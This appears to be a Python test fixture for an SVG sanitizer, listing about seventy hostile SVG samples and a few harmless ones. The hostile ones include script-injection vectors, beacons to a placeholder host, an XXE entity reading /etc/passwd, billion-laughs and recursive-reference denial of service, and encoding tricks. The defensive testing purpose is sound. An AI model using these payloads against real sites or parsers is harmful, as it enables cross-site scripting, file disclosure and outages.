"""Hostile SVGs, written from public descriptions of known attacks. BEACON is an address that nobody may ask
for.
"""

JS = "new Image().src='BEACON/script'"
HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90">'


def svg(inner, head=HEAD):
    return f"{head}{inner}</svg>"


HOSTILE = {
    "script": svg(f"<script>{JS}</script>"),
    "script by cdata": svg(f"<script><![CDATA[{JS}]]></script>"),
    "script from elsewhere": svg('<script href="BEACON/a.js"/>'),
    "script by xlink": svg('<script xlink:href="BEACON/a.js"/>'),
    "script under another "
    "prefix": f'<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>{JS}</x:script></x:svg>',
    "script of XHTML": svg(f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{JS}</h:script>'),
    "script of XHTML in metadata": svg(
        f'<metadata><script xmlns="http://www.w3.org/1999/xhtml">{JS}</script></metadata>'
    ),
    "script in RDF": svg(
        "<metadata><r:RDF "
        f'xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><script>{JS}</script></r:RDF></metadata>'
    ),
    "script in a module": svg(f'<script type="module">{JS}</script>'),
    "onload": svg("", HEAD.replace(">", f' onload="{JS}">')),
    "ONLOAD in capitals": svg("", HEAD.replace(">", f' OnLoad="{JS}">')),
    "onload on a shape": svg(f'<path onload="{JS}" d="M0 0"/>'),
    "onbegin": svg(f'<animate attributeName="x" dur="1s" onbegin="{JS}"/>'),
    "onerror of an image": svg(f'<image href="x:y" onerror="{JS}"/>'),
    "onfocus with autofocus": svg(
        f'<g tabindex="1" autofocus="" onfocus="{JS}"><rect width="9" height="9"/></g>'
    ),
    "onend": svg(f'<set attributeName="x" to="1" begin="0s" dur="0.01s" onend="{JS}"/>'),
    "event handler in another namespace": svg(f'<g inkscape:onload="{JS}" xmlns:inkscape="urn:x"/>'),
    "link to javascript": svg(f'<a href="javascript:{JS}"><rect width="90" height="90"/></a>'),
    "link to javascript with spaces": svg(
        f'<a xlink:href=" java&#x0A;script:{JS}"><rect width="90" height="90"/></a>'
    ),
    "link to a data page": svg(
        '<a href="data:text/html,&lt;script&gt;1&lt;/script&gt;"><rect width="90" height="90"/></a>'
    ),
    "animated link": svg(
        f'<a><rect width="90" height="90"/><animate attributeName="href" values="javascript:{JS}"/></a>'
    ),
    "set href": svg(
        f'<a><set attributeName="xlink:href" to="javascript:{JS}"/><rect width="90" height="90"/></a>'
    ),
    "foreignObject with an iframe": svg(
        '<foreignObject width="90" height="90"><iframe xmlns="http://www.w3.org/1999/xhtml" '
        'src="BEACON/frame"/></foreignObject>'
    ),
    "foreignObject with an image": svg(
        '<foreignObject width="90" height="90"><img xmlns="http://www.w3.org/1999/xhtml" src="BEACON/img" '
        f'onerror="{JS}"/></foreignObject>'
    ),
    "foreignObject with a meta refresh": svg(
        '<foreignObject width="9" height="9"><meta xmlns="http://www.w3.org/1999/xhtml" '
        'http-equiv="refresh" content="0;url=BEACON/meta"/></foreignObject>'
    ),
    "body of XHTML": svg(f'<body xmlns="http://www.w3.org/1999/xhtml" onload="{JS}"/>'),
    "embed of XHTML": svg('<embed xmlns="http://www.w3.org/1999/xhtml" src="BEACON/embed"/>'),
    "audio of XHTML": svg(f'<audio xmlns="http://www.w3.org/1999/xhtml" src="BEACON/audio" onerror="{JS}"/>'),
    "link element of XHTML": svg(
        '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="BEACON/a.css"/>'
    ),
    "image from elsewhere": svg('<image href="BEACON/a.png" width="9" height="9"/>'),
    "image by xlink": svg('<image xlink:href="BEACON/a.png" width="9" height="9"/>'),
    "image of an SVG in a data address": svg(
        '<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>'
    ),
    "feImage from elsewhere": svg(
        '<filter id="f"><feImage href="BEACON/a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>'
    ),
    "use from elsewhere": svg('<use href="BEACON/a.svg#x"/>'),
    "use of a data address": svg('<use href="data:image/svg+xml,&lt;svg id=&quot;x&quot;/&gt;#x"/>'),
    "fill from elsewhere": svg('<rect width="9" height="9" fill="url(BEACON/a.svg#g)"/>'),
    "filter from elsewhere": svg('<rect width="9" height="9" style="filter:url(BEACON/a.svg#f)"/>'),
    "mask from elsewhere": svg('<rect width="9" height="9" mask="url(\'BEACON/a.svg#m\')"/>'),
    "cursor from elsewhere": svg('<rect width="90" height="90" style="cursor:url(BEACON/c.cur),auto"/>'),
    "import in a style": svg("<style>@import 'BEACON/a.css';</style>"),
    "import of an address": svg("<style>@import url(BEACON/a.css);</style>"),
    "font from elsewhere": svg(
        "<style>@font-face{font-family:x;src:url(BEACON/a.woff)} text{font-family:x}</style><text "
        "y='9'>a</text>"
    ),
    "background in a style": svg("<style>svg{background:url(BEACON/a.png)}</style>"),
    "background by escapes": svg("<style>svg{background:\\75 rl(BEACON/a.png)}</style>"),
    "background by image-set": svg("<style>svg{background:image-set('BEACON/a.png' 1x)}</style>"),
    "background through a comment": svg(
        "<style>svg{background:u/**/rl(BEACON/a.png);background-image:url(/**/BEACON/a.png)}</style>"
    ),
    "background from a variable": svg("<style>svg{--u:url(BEACON/a.png);background:var(--u)}</style>"),
    "background in a style attribute": svg(
        "", HEAD.replace(">", ' style="background-image:url(BEACON/a.png)">')
    ),
    "list-style in capitals": svg("<style>svg{BACKGROUND:URL( 'BEACON/a.png' )}</style>"),
    "style sheet by processing instruction": '<?xml-stylesheet type="text/css" href="BEACON/a.css"?>'
    + svg(""),
    "XSLT by processing instruction": '<?xml-stylesheet type="text/xsl" href="BEACON/a.xsl"?>' + svg(""),
    "entity that hides a script": '<!DOCTYPE svg [<!ENTITY x "&#60;script '
    f'xmlns=&#39;http://www.w3.org/2000/svg&#39;>{JS.replace(chr(39), "&#34;")}&#60;/script>">]>'
    + svg("&x;"),
    "entity from a file": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    + svg("<text>&x;</text>"),
    "entity from elsewhere": '<!DOCTYPE svg [<!ENTITY x SYSTEM "BEACON/x">]>' + svg("<text>&x;</text>"),
    "parameter entity": '<!DOCTYPE svg [<!ENTITY % x SYSTEM "BEACON/x.dtd"> %x;]>' + svg(""),
    "default attribute of a DTD": f'<!DOCTYPE svg [<!ELEMENT g ANY><!ATTLIST g onload CDATA "{JS}">]>'
    + svg("<g/>"),
    "default attribute without an element": f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{JS}">]>' + svg(""),
    "a billion laughs": '<!DOCTYPE svg [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {c} "{("&" + p + ";") * 10}">' for p, c in zip("abcdefgh", "bcdefghi"))
    + "]>"
    + svg("<text>&i;</text>"),
    "a base of its own": svg('<g xml:base="BEACON/"><image href="data:image/png;base64,AA=="/></g>'),
    "handler of SVG Tiny": svg(
        '<handler type="application/ecmascript" xmlns:ev="http://www.w3.org/2001/xml-events" '
        f'ev:event="load">{JS}</handler>'
    ),
    "listener of XML events": svg(
        '<listener xmlns="http://www.w3.org/2001/xml-events" event="load" handler="BEACON/a.svg#h"/>'
    ),
    "XInclude": svg('<include xmlns="http://www.w3.org/2001/XInclude" href="BEACON/x" parse="text"/>'),
    "uses without end": svg(
        "".join(f'<g id="a{n}">' + f'<use href="#a{n - 1}"/>' * 10 + "</g>" for n in range(1, 9))
        + '<g id="a0"><path/></g><use href="#a8"/>'
    ),
    "a use of itself": svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    "patterns without end": svg(
        "".join(
            f'<pattern id="p{n}" width="1" height="1">' + f'<rect fill="url(#p{n - 1})"/>' * 10 + "</pattern>"
            for n in range(1, 9)
        )
        + '<rect fill="url(#p8)"/>'
    ),
    "an absurd size": svg("", HEAD.replace('width="90"', 'width="1e9"')),
    "UTF-7": '<?xml version="1.0" encoding="UTF-7"?>' + svg("+ADw-script+AD4-1+ADw-/script+AD4-"),
    "UTF-16": '<?xml version="1.0" encoding="UTF-16"?>' + svg(f"<script>{JS}</script>"),
    "no namespace": f"<svg><script>{JS}</script></svg>",
    "HTML that calls itself SVG": f"<html><body><svg></svg><script>{JS}</script></body></html>",
    "not well formed": HEAD + "<g>",
    "depth": HEAD + "<g>" * 5000 + "</g>" * 5000 + "</svg>",
}

HARMLESS = {
    "shapes": svg('<path d="M0 0h9" stroke="#123"/><g transform="scale(2)"><circle r="3" class="a"/></g>'),
    "styles": svg("<style>.a { fill: #123; stroke-width: 2px } /* url */</style><rect class='a' "
                  "style='fill:url(#g)' width='9' height='9'/>"),
    "gradient": svg('<defs><linearGradient id="g"><stop offset="0" '
                    'stop-color="red"/></linearGradient></defs><rect fill="url(#g)" width="9" height="9"/>'),
    "use of a glyph": svg('<defs><symbol id="x"><path d="M0 '
                          '0"/></symbol></defs>' + '<use xlink:href="#x" x="3"/>' * 100),
    "raster inside": svg('<image width="9" height="9" '
                         'xlink:href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="/>'),
    "names with odd signs": svg('<g id="icon@2x" class="a@b" data-name="C:\\x" aria-label="@home"/>'),
    "link": svg('<a xlink:href="https://example.org/"><text y="9">there</text></a>'),
    "DOCTYPE of SVG "
    "1.1": '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG '
           '1.1//EN"\n "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<!-- Generated '
           '-->' + svg("<title>G</title>"),
    "what Inkscape leaves": svg('<sodipodi:namedview '
                                'xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" '
                                'pagecolor="#fff"/><metadata><rdf:RDF '
                                'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>'),
}  # fmt: skip
